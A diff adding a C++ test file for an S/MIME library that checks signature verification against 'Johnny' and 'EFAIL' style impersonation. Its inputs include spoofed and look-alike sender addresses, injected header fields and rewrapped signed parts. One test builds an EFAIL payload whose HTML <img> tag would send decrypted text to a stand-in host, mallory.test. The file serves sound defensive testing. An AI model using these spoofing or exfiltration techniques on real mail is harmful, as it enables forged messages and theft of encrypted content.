@@ -1,0 +1,238 @@
+// Mails that want to pass for Alice's because she signed something in them, after the attacks known as
+// "Johnny" and "EFAIL". None of them is signed by her, or it says what speaks against it.
+#include "tests/smime/reading.h"
+
+namespace signet::smime {
+namespace {
+
+using test::Findings;
+using test::plain_mail;
+
+class Impersonation : public test::ReadingTest {
+  protected:
+    // What Alice really signed, under a header of the attacker's.
+    std::string under(const std::string& header) const {
+        return header + "MIME-Version: 1.0\r\n" + m_signed_entity;
+    }
+    Findings findings_from(const std::string& from) const {
+        return findings(under("From: " + from + "\r\n"));
+    }
+    static std::string in_multipart(const std::string& subtype, const std::vector<std::string>& parts) {
+        std::string mail =
+            "From: Alice <alice@example.test>\r\nContent-Type: multipart/" + subtype + "; boundary=o\r\n\r\n";
+        for (const std::string& part : parts) {
+            mail += "--o\r\n" + part + "\r\n";
+        }
+        return mail + "--o--\r\n";
+    }
+
+    const std::string m_signed_entity = entity_of(signed_mail());
+};
+
+TEST_F(Impersonation, OfNobodyIsGood) {
+    for (const char* from : {"alice@example.test", "Alice <alice@example.test>", "<ALICE@Example.Test>",
+                             "\"Alice @ Work\" <alice@example.test>", "alice@example.test (Alice at home)",
+                             "=?utf-8?q?Al=C3=AFce?= <alice@example.test>", "Us: Alice <alice@example.test>;",
+                             "\"alice@example.test\" <alice@example.test>",
+                             "Alice <alice@example.test>,\r\n alice@example.test"}) {
+        EXPECT_EQ(findings_from(from), Findings{}) << from;
+    }
+}
+
+TEST_F(Impersonation, ByTheNameInFromIsNoticed) {
+    for (const char* from :
+         {"\"bob@example.test\" <alice@example.test>", "bob@example.test <alice@example.test>",
+          "\"Bob <bob@example.test>\" <alice@example.test>",
+          "=?utf-8?q?bob=40example.test?= <alice@example.test>",
+          "=?utf-8?b?Ym9iQGV4YW1wbGUudGVzdA==?= <alice@example.test>",
+          "=?utf-8?q?bob=EF=BC=A0example.test?= <alice@example.test>",
+          "alice@example.test (bob@example.test)", "(bob@example.test) alice@example.test",
+          "bob@example.test: alice@example.test;"}) {
+        EXPECT_EQ(findings_from(from), Findings{"address_mismatch 1"}) << from;
+    }
+}
+
+TEST_F(Impersonation, ByAnotherAddressInFromIsNoticed) {
+    for (const char* from :
+         {"Alice <bob@example.test>", "alice@example.test <bob@example.test>",
+          "alice@example.test, bob@example.test", "bob@example.test, alice@example.test",
+          "Us: alice@example.test, bob@example.test;", "Nobody:;", "",
+          "<alice@example.test> <bob@example.test>", "<bob@example.test> <alice@example.test>",
+          "\"alice@example.test\"@evil.test", "<@example.test:alice@evil.test>",
+          "alice@example.test@evil.test", "alice@example.test.evil.test", "evil+alice@example.test",
+          "alice@ex\xd0\xb0mple.test",
+          "=?utf-8?q?alice=40example.test?=", "=?utf-8?q?alice=40example.test=00?=@evil.test",
+          "=?utf-8?b?YWxpY2VAZXhhbXBsZS50ZXN0?=@evil.test"}) {
+        EXPECT_EQ(findings_from(from), Findings{"address_mismatch 1"}) << from;
+    }
+}
+
+TEST_F(Impersonation, ByASecondFieldIsNoticed) {
+    const std::string alice = "From: alice@example.test\r\n";
+    for (const char* field :
+         {"From: bob@example.test\r\n", "from: bob@example.test\r\n", "From : bob@example.test\r\n",
+          "From\t: bob@example.test\r\n", "FROM:\r\n bob@example.test\r\n", "Sender: bob@example.test\r\n",
+          "From: alice@example.test\r\n"}) {
+        EXPECT_EQ(findings(under(alice + field)), Findings{"address_mismatch 1"}) << field;
+        EXPECT_EQ(findings(under(field + alice)), Findings{"address_mismatch 1"}) << field;
+    }
+}
+
+TEST_F(Impersonation, ByLinesThatReadersTakeDifferentlyIsNoticed) {
+    using namespace std::string_literals;
+    const std::string alice = "From: alice@example.test\r\n";
+    for (const std::string& lines :
+         {" From: bob@example.test\r\n"s + alice, alice + "From bob@example.test\r\n",
+          alice + "Fr\xc3\xb6m: bob@example.test\r\n", alice + "From\0: bob@example.test\r\n"s,
+          alice + "X: y\rFrom: bob@example.test\r\n", alice + "From: bob@example.test\r\r\n"}) {
+        EXPECT_FALSE(claims(under(lines)).good) << lines;
+    }
+}
+
+TEST_F(Impersonation, ByASecondContentTypeIsNoticed) {
+    const std::string alice = "From: alice@example.test\r\n";
+    for (const char* field : {"Content-Type: text/plain\r\n", "content-type : text/html\r\n",
+                              "Content-Type: multipart/mixed; boundary=b\r\n"}) {
+        EXPECT_FALSE(claims(alice + field + m_signed_entity).good) << field;
+        EXPECT_FALSE(
+            claims(std::string(m_signed_entity).insert(m_signed_entity.find("\r\n\r\n") + 2, field)).good)
+            << field;
+    }
+}
+
+TEST_F(Impersonation, ByASecondTransferEncodingIsNoticed) {
+    const std::string opaque = signed_mail(plain_mail(), SignatureForm::opaque);
+    ASSERT_TRUE(claims(opaque).good);
+    EXPECT_FALSE(claims("Content-Transfer-Encoding: 7bit\r\n" + opaque).good);
+    EXPECT_FALSE(claims("Content-Transfer-Encoding : quoted-printable\r\n" + opaque).good);
+}
+
+TEST_F(Impersonation, ByOneSignedAlternativeIsNoticed) {
+    const std::string html = "Content-Type: text/html\r\n\r\n<p>Pay Mallory.</p>\r\n";
+    EXPECT_EQ(findings(in_multipart("alternative", {html, m_signed_entity})),
+              (Findings{"signature_in_multipart 1.2", "unsigned_text_around_signature 1.2"}));
+    EXPECT_EQ(findings(in_multipart("alternative", {m_signed_entity, html})),
+              (Findings{"signature_in_multipart 1.1", "unsigned_text_around_signature 1.1"}));
+}
+
+TEST_F(Impersonation, ByAPartThatRefersToASignedOneIsNoticed) {
+    const std::string html =
+        "Content-Type: text/html\r\n\r\n<p>Pay Mallory.</p><iframe src=\"cid:letter\"></iframe>\r\n";
+    EXPECT_EQ(findings(in_multipart("related", {html, "Content-ID: <letter>\r\n" + m_signed_entity})),
+              (Findings{"signature_in_multipart 1.2", "unsigned_text_around_signature 1.2"}));
+    const std::string letter = entity_of(signed_mail(
+        "From: alice@example.test\r\nContent-Type: text/html\r\n\r\n<img src=\"cid:order\">\r\n"));
+    const std::string image = "Content-Type: image/svg+xml\r\nContent-ID: <order>\r\n\r\n<svg>Pay!</svg>\r\n";
+    EXPECT_EQ(findings(in_multipart("related", {letter, image})), Findings{"signature_in_multipart 1.1"});
+}
+
+TEST_F(Impersonation, ByAnAttachedOrForwardedMailIsNoticed) {
+    const std::string forwarded = "Content-Type: message/rfc822\r\n\r\n" + signed_mail();
+    const std::string text = "\r\nSee below.\r\n";
+    EXPECT_EQ(findings("From: alice@example.test\r\n" + forwarded),
+              Findings{"signature_in_forwarded_mail 1.1"});
+    EXPECT_EQ(findings(in_multipart("mixed", {text, forwarded})),
+              Findings{"signature_in_forwarded_mail 1.2.1"});
+    EXPECT_EQ(findings(in_multipart("mixed", {"Content-Disposition: attachment\r\n" + forwarded})),
+              Findings{"signature_in_forwarded_mail 1.1.1"});
+    EXPECT_FALSE(claims(in_multipart("digest", {"\r\n" + signed_mail()})).good);
+}
+
+TEST_F(Impersonation, ByAnAttachedSignatureIsNoticed) {
+    const std::string attached = "Content-Disposition: attachment; filename=letter.eml\r\n" + m_signed_entity;
+    EXPECT_EQ(findings(in_multipart("mixed", {"\r\nPay Mallory.\r\n", attached})),
+              (Findings{"signed_attachment_poses_as_mail 1.2", "unsigned_text_around_signature 1.2"}));
+    const std::string opaque = entity_of(signed_mail(plain_mail(), SignatureForm::opaque));
+    EXPECT_EQ(findings(in_multipart("mixed", {"\r\nPay Mallory.\r\n", opaque})),
+              (Findings{"signed_attachment_poses_as_mail 1.2", "unsigned_text_around_signature 1.2"}));
+}
+
+TEST_F(Impersonation, ByTextAroundTheSignedPartsIsNoticed) {
+    const std::string mail = signed_mail();
+    EXPECT_EQ(findings(mail + "-- \r\nA mailing list\r\n"), Findings{"unsigned_text_around_signature 1"});
+    const std::size_t last = mail.rfind("\r\n--");
+    const std::string boundary = mail.substr(last, mail.rfind("--") - last);
+    const std::string third = boundary + "\r\nContent-Type: text/plain\r\n\r\nA mailing list\r\n";
+    EXPECT_EQ(findings(std::string(mail).insert(last, third)), Findings{"malformed_signature 1"});
+    EXPECT_EQ(findings(encrypted_mail(mail + "Pay Mallory.\r\n")),
+              (Findings{"not_authenticated 1", "unsigned_text_around_signature 1.1"}));
+    EXPECT_EQ(findings(in_multipart("mixed", {m_signed_entity, "\r\nA mailing list\r\n"})),
+              (Findings{"signature_in_multipart 1.1", "unsigned_text_around_signature 1.1"}));
+}
+
+TEST_F(Impersonation, ByPartsInAnotherOrderIsNoticed) {
+    const std::string mail = signed_mail();
+    const std::size_t parameter = mail.find("boundary=\"") + 10;
+    const std::string boundary = "--" + mail.substr(parameter, mail.find('"', parameter) - parameter);
+    const std::size_t first = mail.find(boundary + "\r\n");
+    const std::size_t second = mail.find(boundary + "\r\n", first + 1);
+    const std::size_t last = mail.find(boundary + "--");
+    EXPECT_EQ(findings(mail.substr(0, first) + mail.substr(second, last - second) +
+                       mail.substr(first, second - first) + mail.substr(last)),
+              Findings{"malformed_signature 1"});
+}
+
+TEST_F(Impersonation, ByBoundariesThatBeginAlikeIsNoticed) {
+    // The attacker's boundary is the beginning of the one in what Alice signed.
+    const std::string letter =
+        "Content-Type: multipart/alternative; boundary=bb\r\n\r\n--bb\r\n\r\nyes\r\n--bb--\r\n";
+    const std::string mail = "From: alice@example.test\r\n" + signed_payload(letter);
+    EXPECT_TRUE(claims(mail).good);
+    EXPECT_FALSE(claims(std::string(mail).replace(mail.find("--bb\r\n"), 6, "--b\r\n")).good);
+    // In Alice's text stands what old programs take for a boundary.
+    const std::string text = "Content-Type: text/plain\r\n\r\nyes\r\n--b2\r\n\r\nno\r\n--b--x\r\n";
+    const auto claimed = claims("From: alice@example.test\r\n" + signed_payload(text));
+    EXPECT_TRUE(!claimed.good || claimed.protected_parts.find("no\r\n--b--x") != std::string::npos);
+}
+
+TEST_F(Impersonation, ByPartsOfAMailElsewhereIsNoticed) {
+    for (const char* type :
+         {"message/partial; id=\"x@example.test\"; number=1; total=1",
+          "message/external-body; access-type=URL; URL=\"http://mallory.test/\"", "text/plain",
+          "application/octet-stream; name=mail.eml", "message/rfc822\r\nContent-Transfer-Encoding: base64",
+          "multipart/signed; boundary=none; protocol=\"application/pkcs7-signature\"",
+          "multipart/signed; protocol=\"application/pkcs7-signature\""}) {
+        EXPECT_FALSE(claims("From: alice@example.test\r\nContent-Type: " + std::string(type) + "\r\n\r\n" +
+                            signed_mail())
+                         .good)
+            << type;
+    }
+}
+
+TEST_F(Impersonation, ByAnotherSignatureAroundOrInsideIsNoticed) {
+    signet::test::TestAuthority stranger("Stranger");
+    const auto mallory = stranger.issue_identity("P-256", "alice@example.test");
+    const auto around = test::sign(signed_mail(), test::sign_options(mallory)).value();
+    EXPECT_EQ(findings(around), (Findings{"nested_signatures 1.1", "untrusted_chain 1"}));
+    const auto inside = signed_mail(test::sign(plain_mail(), test::sign_options(mallory)).value());
+    EXPECT_EQ(findings(inside), (Findings{"nested_signatures 1.1", "untrusted_chain 1.1"}));
+    EXPECT_FALSE(claims(around).good || claims(inside).good);
+}
+
+TEST_F(Impersonation, ByTheSignatureOfAnotherProtocolIsNoticed) {
+    const std::string pgp = "application/pgp-signature";
+    std::string mail = signed_mail();
+    mail.replace(mail.find("application/pkcs7-signature"), 27, pgp);
+    EXPECT_FALSE(claims(mail).good);
+    mail.replace(mail.find("application/pkcs7-signature"), 27, pgp);
+    EXPECT_FALSE(claims(mail).good);
+}
+
+TEST_F(Impersonation, ByTextAroundEncryptionTellsNothingToAnybody) {
+    const std::string secret = encrypted_payload("Content-Type: text/html\r\n\r\nthe secret\r\n");
+    const std::string open = "Content-Type: text/html\r\n\r\n<img src=\"http://mallory.test/?";
+    const std::string mail = in_multipart("mixed", {open, secret, "Content-Type: text/html\r\n\r\n\">"});
+    const auto claimed = claims(mail);
+    EXPECT_FALSE(claimed.good || claimed.encrypted);
+    EXPECT_TRUE(claimed.not_authenticated);
+    EXPECT_EQ(claimed.protected_parts, "1.2.1 text/html \nthe secret\r\n");
+    EXPECT_TRUE(claimed.findings.contains("encrypted_part 1.2"));
+}
+
+TEST_F(Impersonation, BySigningTheCiphertextOfSomebodyElseIsNoticed) {
+    EXPECT_EQ(findings(signed_mail(encrypted_mail(plain_mail()))),
+              (Findings{"not_authenticated 1.1", "signature_outside_encryption 1"}));
+}
+
+}  // namespace
+}  // namespace signet::smime
